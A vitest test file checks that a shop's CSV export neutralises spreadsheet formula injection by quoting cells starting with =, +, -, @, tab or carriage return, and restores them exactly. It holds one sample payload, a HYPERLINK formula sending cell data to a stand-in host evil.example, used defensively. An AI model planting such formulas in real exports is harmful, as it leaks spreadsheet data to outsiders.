import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvLines, figure, neutraliseCsvText, restoreCsvText } from "./csv.ts";

const PREFIXES = ["=", "+", "-", "@", "\t", "\r"];
const REPRO = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")';

const cellsOf = (text: string) => parse(text, { relax_quotes: false }) as string[][];

describe("the CSV writer of every export", () => {
  it("puts a quote in front of every text cell a spreadsheet would run, and nothing else", () => {
    const texts = [...PREFIXES.map((prefix) => `${prefix}1+2`), REPRO, "-5", "@SUM(A1)"];
    const [cells] = cellsOf(csvLines([texts]));
    expect(cells).toEqual(texts.map((text) => `'${text}`));
    for (const cell of cells ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const plain = ["Blue Dream", "22% 100mg", "3.5g", "", "a=b", "'Til dawn", "https://x.example/?q=-1"];
    expect(cellsOf(csvLines([plain]))[0]).toEqual(plain);
  });

  it("writes the shop's own figures as they are, negative ones too", () => {
    const [cells] = cellsOf(csvLines([[-1, figure(-1250 / 100, 2), figure(4500 / 100, 2), 0.5, null, "-1"]]));
    expect(cells).toEqual(["-1", "-12.50", "45.00", "0.5", "", "'-1"]);
    expect(() => figure(Number.NaN)).toThrow(RangeError);
  });

  it("gives back exactly the text it was written from, whatever quotes it starts with", () => {
    const texts = [
      ...PREFIXES.flatMap((prefix) => [prefix, `${prefix}x`, `'${prefix}x`, `''${prefix}x`, `x${prefix}`]),
      REPRO,
      "'",
      "''",
      "'Til dawn",
      "''Til dawn",
      "' =x",
      "",
      "plain",
    ];
    for (const text of texts) {
      const [cells] = cellsOf(csvLines([[text]]));
      expect(restoreCsvText(cells?.[0] ?? "")).toBe(text);
      expect(restoreCsvText(neutraliseCsvText(text))).toBe(text);
    }
    // A cell nobody neutralised reads as written; one typed the spreadsheet's way reads as its text.
    expect(restoreCsvText("'Til dawn")).toBe("'Til dawn");
    expect(restoreCsvText("'=1+2")).toBe("=1+2");
  });
});
